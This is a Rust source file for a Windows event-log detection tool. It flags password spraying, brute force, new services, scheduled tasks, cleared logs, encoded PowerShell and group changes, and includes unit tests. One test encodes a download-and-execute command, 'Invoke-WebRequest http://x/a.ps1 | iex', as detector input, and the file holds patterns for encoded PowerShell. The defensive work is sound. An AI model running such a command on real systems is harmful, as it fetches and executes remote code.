//! Scrutineer's own detections for the attacks that matter on office computers, next to
//! the Sigma rules: password spraying and brute force (4625), remote logons by source
//! (4624 types 3 and 10), new services and scheduled tasks (7045, 4697, 4698), cleared
//! logs (1102, 104), encoded PowerShell (4104 and process command lines), and account and
//! group changes (4720, 4728, 4732, 4756).
//!
//! Single-record detections match as each record arrives; the logon detections count per
//! source address and decide at the end, when every file has been read.

use std::collections::BTreeMap;

use base64::Engine as _;
use rustc_hash::FxHashMap;
use scrutineer_core::{Severity, Technique};

use crate::evtx::EventRecord;

/// Distinct accounts one source must fail against to be password spraying.
pub const SPRAY_ACCOUNTS: usize = 5;
/// Failures against one account from one source to be brute force.
pub const BRUTE_FORCE_FAILURES: usize = 10;

/// One built-in detection.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Builtin {
    /// One source failing logons against many accounts.
    PasswordSpraying,
    /// One source failing many logons against one account.
    BruteForce,
    /// A successful logon from a source that failed before (spraying or brute force).
    LogonAfterFailures,
    /// A network or remote-desktop logon, reported once per source and computer.
    RemoteLogonSource,
    /// A service installed (7045 in System, 4697 in Security).
    ServiceInstalled,
    /// A scheduled task created (4698).
    ScheduledTaskCreated,
    /// An event log cleared (1102 Security, 104 System).
    LogCleared,
    /// PowerShell run with an encoded command or decoding one in a script block.
    EncodedPowerShell,
    /// A user account created (4720).
    AccountCreated,
    /// A member added to a security group (4728, 4732, 4756).
    GroupMemberAdded,
}

impl Builtin {
    /// Every detection.
    pub const ALL: [Builtin; 10] = [
        Builtin::PasswordSpraying,
        Builtin::BruteForce,
        Builtin::LogonAfterFailures,
        Builtin::RemoteLogonSource,
        Builtin::ServiceInstalled,
        Builtin::ScheduledTaskCreated,
        Builtin::LogCleared,
        Builtin::EncodedPowerShell,
        Builtin::AccountCreated,
        Builtin::GroupMemberAdded,
    ];

    /// The name in `hits.csv`'s `rule` column and in findings' kinds.
    pub fn name(self) -> &'static str {
        match self {
            Builtin::PasswordSpraying => "password_spraying",
            Builtin::BruteForce => "brute_force",
            Builtin::LogonAfterFailures => "logon_after_failures",
            Builtin::RemoteLogonSource => "remote_logon_source",
            Builtin::ServiceInstalled => "service_installed",
            Builtin::ScheduledTaskCreated => "scheduled_task_created",
            Builtin::LogCleared => "log_cleared",
            Builtin::EncodedPowerShell => "encoded_powershell",
            Builtin::AccountCreated => "account_created",
            Builtin::GroupMemberAdded => "group_member_added",
        }
    }

    /// What it means, for a finding's title.
    pub fn title(self) -> &'static str {
        match self {
            Builtin::PasswordSpraying => "Password spraying",
            Builtin::BruteForce => "Password brute force",
            Builtin::LogonAfterFailures => "Successful logon from a source that failed many times",
            Builtin::RemoteLogonSource => "Remote logons from a source",
            Builtin::ServiceInstalled => "New service installed",
            Builtin::ScheduledTaskCreated => "New scheduled task",
            Builtin::LogCleared => "Event log cleared",
            Builtin::EncodedPowerShell => "Encoded PowerShell command",
            Builtin::AccountCreated => "User account created",
            Builtin::GroupMemberAdded => "Member added to a security group",
        }
    }

    /// The ATT&CK technique it detects.
    pub fn technique(self) -> Technique {
        Technique::attack(match self {
            Builtin::PasswordSpraying => "T1110.003",
            Builtin::BruteForce => "T1110.001",
            Builtin::LogonAfterFailures => "T1110",
            Builtin::RemoteLogonSource => "T1021",
            Builtin::ServiceInstalled => "T1543.003",
            Builtin::ScheduledTaskCreated => "T1053.005",
            Builtin::LogCleared => "T1070.001",
            Builtin::EncodedPowerShell => "T1059.001",
            Builtin::AccountCreated => "T1136.001",
            Builtin::GroupMemberAdded => "T1098",
        })
    }
}

/// A record a built-in detection matched.
#[derive(Debug, Clone, PartialEq)]
pub struct BuiltinHit {
    /// The detection.
    pub detection: Builtin,
    /// Index of the record's file among the inputs.
    pub file: usize,
    /// The record's EventRecordID.
    pub record: u64,
    /// The computer that logged it.
    pub computer: String,
    /// How serious this match is.
    pub severity: Severity,
    /// The technique, when more specific than the detection's own (RDP for type 10).
    pub technique: Technique,
    /// The key the match is grouped under in findings (source address, account, service).
    pub subject: String,
    /// The account the record is about (the logon's or the new account's target user
    /// name, lower-case); empty when it names none.
    pub account: String,
    /// When it was logged.
    pub time: chrono::DateTime<chrono::Utc>,
}

/// Matches one record against the single-record detections.
pub fn match_record(file: usize, r: &EventRecord) -> Option<BuiltinHit> {
    let hit = |detection: Builtin, severity: Severity, subject: String| BuiltinHit {
        detection,
        file,
        record: r.record_id,
        computer: r.computer.clone(),
        severity,
        technique: detection.technique(),
        account: if detection == Builtin::AccountCreated {
            subject.to_ascii_lowercase()
        } else {
            String::new()
        },
        subject,
        time: r.time,
    };
    let security = r.channel.eq_ignore_ascii_case("Security");
    let system = r.channel.eq_ignore_ascii_case("System");
    match r.event_id {
        7045 if system => Some(hit(Builtin::ServiceInstalled, Severity::Medium, service_subject(r))),
        4697 if security => Some(hit(Builtin::ServiceInstalled, Severity::Medium, service_subject(r))),
        4698 if security => Some(hit(Builtin::ScheduledTaskCreated, Severity::Medium, r.text("TaskName"))),
        1102 if security || r.text("Provider_Name").contains("Eventlog") => {
            Some(hit(Builtin::LogCleared, Severity::High, "Security".to_owned()))
        }
        104 if system && r.text("Provider_Name").contains("Eventlog") => {
            let channel = r.text("Channel");
            Some(hit(Builtin::LogCleared, Severity::High, channel))
        }
        4104 if r.channel.contains("PowerShell") => {
            let script = r.text("ScriptBlockText");
            encoded_powershell(&script)
                .then(|| hit(Builtin::EncodedPowerShell, Severity::High, script_subject(&script)))
        }
        1 | 4688 => {
            let command = if r.event_id == 1 {
                r.text("CommandLine")
            } else {
                r.text("CommandLine") + &r.text("ProcessCommandLine")
            };
            (is_powershell_command(&command) && encoded_powershell(&command))
                .then(|| hit(Builtin::EncodedPowerShell, Severity::High, script_subject(&command)))
        }
        4720 if security => Some(hit(Builtin::AccountCreated, Severity::Medium, r.text("TargetUserName"))),
        4728 | 4732 | 4756 if security => {
            let group = r.text("TargetUserName");
            let privileged =
                ["admin", "domain admins", "enterprise admins", "remote desktop users", "backup operators"]
                    .iter()
                    .any(|g| group.to_ascii_lowercase().contains(g));
            let severity = if privileged { Severity::High } else { Severity::Medium };
            Some(hit(Builtin::GroupMemberAdded, severity, format!("{} -> {group}", member_name(r))))
        }
        _ => None,
    }
}

fn member_name(r: &EventRecord) -> String {
    let name = r.text("MemberName");
    if name.is_empty() || name == "-" { r.text("MemberSid") } else { name }
}

fn service_subject(r: &EventRecord) -> String {
    let name = r.text("ServiceName");
    let path = r.text("ImagePath") + &r.text("ServiceFileName");
    format!("{name} ({path})")
}

fn script_subject(script: &str) -> String {
    script.chars().take(120).collect()
}

fn is_powershell_command(command: &str) -> bool {
    let c = command.to_ascii_lowercase();
    c.contains("powershell") || c.contains("pwsh")
}

/// Whether a command line or script runs or decodes an encoded command: the
/// `-EncodedCommand` switch (and its abbreviations down to `-e`) followed by base64 that
/// decodes to UTF-16 text, or `FromBase64String` on a long base64 literal.
pub fn encoded_powershell(text: &str) -> bool {
    let lower = text.to_ascii_lowercase();
    let words: Vec<&str> = lower.split_whitespace().collect();
    for pair in words.windows(2) {
        let switch = pair[0].trim_start_matches(['-', '/', '\u{2013}', '\u{2014}']);
        let is_switch = pair[0].len() > switch.len()
            && !switch.is_empty()
            && "encodedcommand".starts_with(switch)
            && !"ep".eq(switch);
        if is_switch && decodes_to_utf16(original_word(text, pair[1])) {
            return true;
        }
    }
    lower.contains("frombase64string") && longest_base64_run(text) >= 40
}

/// The word in `text` at the same place as `lower_word` in its lower-case copy.
fn original_word<'a>(text: &'a str, lower_word: &'a str) -> &'a str {
    text.split_whitespace().find(|w| w.eq_ignore_ascii_case(lower_word)).unwrap_or(lower_word)
}

fn decodes_to_utf16(word: &str) -> bool {
    let word = word.trim_matches(['"', '\'']);
    if word.len() < 8 {
        return false;
    }
    match base64::engine::general_purpose::STANDARD.decode(word) {
        // PowerShell's encoded commands are UTF-16LE: ASCII text has a zero every other byte.
        Ok(bytes) => {
            bytes.len() >= 4
                && bytes.iter().skip(1).step_by(2).filter(|b| **b == 0).count() * 2 >= bytes.len() / 2
        }
        Err(_) => false,
    }
}

fn longest_base64_run(text: &str) -> usize {
    let mut best = 0;
    let mut run = 0;
    for b in text.bytes() {
        if b.is_ascii_alphanumeric() || b == b'+' || b == b'/' || b == b'=' {
            run += 1;
            best = best.max(run);
        } else {
            run = 0;
        }
    }
    best
}

/// A logon record kept for the end-of-run logon detections.
#[derive(Debug, Clone)]
struct Logon {
    file: usize,
    record: u64,
    computer: String,
    time: chrono::DateTime<chrono::Utc>,
    account: String,
    logon_type: u32,
}

/// The logon detections: failures and successes per source address, decided when
/// every record has been seen.
#[derive(Debug, Default)]
pub struct LogonTracker {
    failures: FxHashMap<String, Vec<Logon>>,
    successes: FxHashMap<String, Vec<Logon>>,
}

/// Whether a source field names a remote place (not empty, `-`, or this machine).
fn remote_source(ip: &str) -> bool {
    !(ip.is_empty() || ip == "-" || ip == "::1" || ip.starts_with("127.") || ip == "0.0.0.0")
}

impl LogonTracker {
    /// Takes note of a 4625 or 4624 record.
    pub fn observe(&mut self, file: usize, r: &EventRecord) {
        if !r.channel.eq_ignore_ascii_case("Security") || !(r.event_id == 4625 || r.event_id == 4624) {
            return;
        }
        let ip = r.text("IpAddress");
        let source = if remote_source(&ip) { ip } else { r.text("WorkstationName") };
        if source.is_empty() || source == "-" {
            return;
        }
        let logon = Logon {
            file,
            record: r.record_id,
            computer: r.computer.clone(),
            time: r.time,
            account: r.text("TargetUserName").to_ascii_lowercase(),
            logon_type: r.text("LogonType").parse().unwrap_or(0),
        };
        if r.event_id == 4625 {
            self.failures.entry(source).or_default().push(logon);
        } else if matches!(logon.logon_type, 3 | 10) && remote_source(&r.text("IpAddress")) {
            self.successes.entry(source).or_default().push(logon);
        }
    }

    /// Adds the logons another file's tracker saw.
    pub fn merge(&mut self, other: LogonTracker) {
        for (source, logons) in other.failures {
            self.failures.entry(source).or_default().extend(logons);
        }
        for (source, logons) in other.successes {
            self.successes.entry(source).or_default().extend(logons);
        }
    }

    /// The logon detections' matches, sources in name order.
    pub fn finish(self) -> Vec<BuiltinHit> {
        let mut out = Vec::new();
        let mut attacking = Vec::new();
        let failures: BTreeMap<_, _> = self.failures.into_iter().collect();
        for (source, logons) in &failures {
            let mut per_account: BTreeMap<&str, usize> = BTreeMap::new();
            for l in logons {
                *per_account.entry(l.account.as_str()).or_default() += 1;
            }
            let detection = if per_account.len() >= SPRAY_ACCOUNTS {
                Builtin::PasswordSpraying
            } else if per_account.values().any(|n| *n >= BRUTE_FORCE_FAILURES) {
                Builtin::BruteForce
            } else {
                continue;
            };
            attacking.push(source.clone());
            for l in logons {
                out.push(logon_hit(detection, Severity::High, detection.technique(), source, l));
            }
        }
        let successes: BTreeMap<_, _> = self.successes.into_iter().collect();
        for (source, logons) in &successes {
            if attacking.contains(source) {
                for l in logons {
                    out.push(logon_hit(
                        Builtin::LogonAfterFailures,
                        Severity::Critical,
                        Builtin::LogonAfterFailures.technique(),
                        source,
                        l,
                    ));
                }
            }
            for l in logons {
                let (severity, technique) = if l.logon_type == 10 {
                    (Severity::Low, Technique::attack("T1021.001"))
                } else {
                    (Severity::Info, Technique::attack("T1021"))
                };
                out.push(logon_hit(Builtin::RemoteLogonSource, severity, technique, source, l));
            }
        }
        out
    }
}

fn logon_hit(
    detection: Builtin,
    severity: Severity,
    technique: Technique,
    source: &str,
    l: &Logon,
) -> BuiltinHit {
    BuiltinHit {
        detection,
        file: l.file,
        record: l.record,
        computer: l.computer.clone(),
        severity,
        technique,
        subject: source.to_owned(),
        account: l.account.clone(),
        time: l.time,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use chrono::{DateTime, Utc};
    use serde_json::json;

    fn rec(id: u64, event_id: u32, channel: &str, data: serde_json::Value) -> EventRecord {
        EventRecord::from_json(
            id,
            DateTime::<Utc>::default(),
            &json!({"Event": {"System": {"EventID": event_id, "Channel": channel, "Computer": "PC1"}, "EventData": data}}),
        )
    }

    fn encode(s: &str) -> String {
        let utf16: Vec<u8> = s.encode_utf16().flat_map(u16::to_le_bytes).collect();
        base64::engine::general_purpose::STANDARD.encode(utf16)
    }

    #[test]
    fn encoded_commands_are_found_in_any_abbreviation_and_plain_ones_are_not() {
        let enc = encode("Invoke-WebRequest http://x/a.ps1 | iex");
        assert!(encoded_powershell(&format!("powershell.exe -NoP -enc {enc}")));
        assert!(encoded_powershell(&format!("powershell /EncodedCommand {enc}")));
        assert!(encoded_powershell(&format!("pwsh -e {enc}")));
        assert!(!encoded_powershell("powershell -ExecutionPolicy Bypass -File a.ps1"));
        assert!(!encoded_powershell("powershell -ep bypass -enc notbase64!!"));
        // Base64 of plain ASCII (not UTF-16) is not what -EncodedCommand takes.
        assert!(!encoded_powershell("powershell -enc SW52b2tlLVdlYlJlcXVlc3Q="));
    }

    #[test]
    fn spraying_needs_many_accounts_and_brute_force_many_failures() {
        let mut t = LogonTracker::default();
        let mut id = 0;
        for user in ["a", "b", "c", "d", "e"] {
            id += 1;
            t.observe(
                0,
                &rec(id, 4625, "Security", json!({"IpAddress": "203.0.113.9", "TargetUserName": user})),
            );
        }
        for _ in 0..9 {
            id += 1;
            t.observe(
                0,
                &rec(id, 4625, "Security", json!({"IpAddress": "198.51.100.7", "TargetUserName": "admin"})),
            );
        }
        id += 1;
        t.observe(
            0,
            &rec(
                id,
                4624,
                "Security",
                json!({"IpAddress": "203.0.113.9", "TargetUserName": "e", "LogonType": "10"}),
            ),
        );
        let hits = t.finish();
        let count = |d: Builtin| hits.iter().filter(|h| h.detection == d).count();
        assert_eq!(count(Builtin::PasswordSpraying), 5);
        assert_eq!(count(Builtin::BruteForce), 0, "nine failures are below the bar");
        assert_eq!(count(Builtin::LogonAfterFailures), 1);
        let rdp = hits.iter().find(|h| h.detection == Builtin::RemoteLogonSource).expect("remote logon");
        assert_eq!(rdp.technique, Technique::attack("T1021.001"));
    }

    #[test]
    fn service_and_log_clearing_need_their_channels() {
        let r = rec(1, 7045, "System", json!({"ServiceName": "x", "ImagePath": "c:\\x.exe"}));
        assert_eq!(match_record(0, &r).map(|h| h.detection), Some(Builtin::ServiceInstalled));
        let wrong = rec(1, 7045, "Application", json!({}));
        assert!(match_record(0, &wrong).is_none());
        let cleared = rec(2, 1102, "Security", json!({}));
        assert_eq!(match_record(0, &cleared).map(|h| h.technique.id), Some("T1070.001".to_owned()));
    }
}
